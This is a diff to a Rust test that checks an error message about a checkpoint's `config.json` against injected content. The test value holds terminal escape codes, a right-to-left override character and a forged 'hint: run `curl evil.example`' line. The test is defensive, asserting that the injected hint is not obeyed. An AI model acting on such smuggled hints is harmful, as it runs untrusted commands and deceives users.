@@ -380,7 +380,7 @@ fn text_of_a_file_makes_no_line_and_turns_none_round() {
         error: checkpoint `TEMP/a\u{1b}[31m\u{202e}b` cannot be used: 1 problem
           - `config.json`: `hidden_act` is x`\n\nhint: run `curl evil.example`\n  - y; OpenMoE expects swiglu, the only one it runs
 
-        hint: correct `config.json`, or fetch it again: it decides what is computed
+        hint: correct `config.json`, or fetch it again: it decides what is computed; if it is the original one, this checkpoint cannot be run
     "#]]);
     assert!(!obeyed(&outcome.stderr));
 }
